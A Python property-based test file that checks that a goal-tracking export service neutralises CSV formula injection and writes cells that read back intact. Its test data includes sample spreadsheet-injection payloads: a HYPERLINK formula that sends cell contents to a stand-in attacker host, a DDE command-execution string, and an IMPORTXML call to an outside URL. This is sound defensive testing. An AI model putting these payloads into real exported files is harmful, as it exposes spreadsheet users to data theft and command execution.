"""Bad input in exports, property-based: whatever text a goal name, agent name, agent id,
e-mail, ticket id or rating holds, its CSV cell never starts a spreadsheet formula
(docs/rules.md §6: "a cell that a spreadsheet would run as a formula is neutralised"), and
the CSV the export writes (zipstream, the real writer) reads back, through the csv module,
to exactly the neutralised text: no cell split, merged or shifted by quotes, commas or line breaks.
"""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile

from google.protobuf.duration_pb2 import Duration
from google.protobuf.timestamp_pb2 import Timestamp
from hypothesis import given
from hypothesis import strategies as st

from export_svc.adapters.tracker import export_conversion
from export_svc.domain.csv_rows import HEADERS, neutralize, rows_for
from export_svc.domain.zipstream import zip_csv
from goalflow_common.pb.goals.v1 import common_pb2, tracker_pb2
from tests.services.adversarial import SPECIAL_STRINGS, property_settings

# What spreadsheets run (OWASP "CSV injection"): = + - @, tab, carriage return, and the
# fullwidth forms Excel and LibreOffice also accept.
TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


def first_meaningful(text: str) -> str:
    """The first character an importer that trims spaces and drops quotes and invisible
    characters would see, or ""."""
    for ch in text:
        if not (ch.isspace() or ch in '"\uff02' or unicodedata.category(ch) == "Cf"):
            return ch
    return ""


def looks_like_formula(text: str) -> bool:
    first = first_meaningful(text)
    return bool(text) and (text[0] in TRIGGERS or (first != "" and first in TRIGGERS))


def formula_like() -> st.SearchStrategy[str]:
    """Text built to look like a formula: optional leading noise, a trigger, a payload."""
    noise = st.text(st.sampled_from(' \t\r\n"\u200b\ufeff\u202e\u3000\uff02'), max_size=3)
    payload = st.one_of(st.text(max_size=20), st.sampled_from([
        'HYPERLINK("http://evil.example/?"&A1,"click")', "cmd|' /C calc'!A0", "1+1",
        "SUM(A1:A9)", 'IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    ]))
    return st.builds(lambda n, t, p: n + t + p, noise, st.sampled_from(TRIGGERS), payload)


cells = st.one_of(st.text(), formula_like(), st.sampled_from(SPECIAL_STRINGS))


@property_settings(400)
@given(text=cells)
def test_a_neutralised_cell_never_starts_a_formula(text: str):
    cell = neutralize(text)
    # Only ever a quote in front: the text itself is kept for the reader.
    assert cell in (text, "'" + text)
    assert not cell or cell[0] not in TRIGGERS
    if looks_like_formula(text):
        assert cell == "'" + text
    else:  # everything else is left exactly as it was
        assert cell == text


def conversions(text: st.SearchStrategy[str]) -> st.SearchStrategy[tuple]:
    """A conversion whose free-text fields are drawn from ``text``, one to three credits."""
    credit = st.builds(
        lambda agent_id, name, email, seconds: tracker_pb2.Credit(
            agent=tracker_pb2.Agent(id=agent_id, name=name, email=email, group_id="g"),
            contact_duration_to_goal=Duration(seconds=seconds)),
        text, text, text, st.integers(0, 10**6),
    )
    return st.builds(
        lambda goal_id, goal_name, ticket, rating, amount, credits: export_conversion(
            tracker_pb2.Conversion(
                id="cv", goal_id=goal_id, goal_name=goal_name, conversation_id=ticket,
                satisfaction_rating=rating, conversion_time=Timestamp(seconds=1_780_000_000),
                transaction_value=common_pb2.Money(currency_code="USD", amount=amount),
                credits=credits)),
        text, text, text, text,
        st.sampled_from(["0", "1.50", "999999999999999999.999999"]),
        st.lists(credit, min_size=1, max_size=3),
    )


async def read_back(rows: list[list[str]]) -> list[list[str]]:
    """The rows written by the export's zip/CSV writer, unzipped and parsed again."""

    async def produce():
        for row in rows:
            yield row

    data = b"".join([part async for part in zip_csv(produce(), entry_name="x.csv")])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("x.csv").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@property_settings(150)
@given(batch=st.lists(conversions(cells), min_size=1, max_size=4))
async def test_export_rows_read_back_as_the_neutralised_text(batch):
    rows = [row for conversion in batch for row in rows_for(conversion)]
    parsed = await read_back(rows)
    assert parsed[0] == HEADERS
    assert parsed[1:] == rows  # one row per credit, every cell intact
    for conversion, row in zip(
        (c for c in batch for _ in c.credits), parsed[1:], strict=True
    ):
        assert row[2] == neutralize(conversion.goal_name)
        assert row[6] == neutralize(conversion.conversation_id)
        assert row[8] == neutralize(conversion.satisfaction_rating or "Unoffered")
    for row in parsed[1:]:
        for cell in row:
            assert not cell or cell[0] not in TRIGGERS, row
            assert not looks_like_formula(cell) or cell.startswith("'"), row
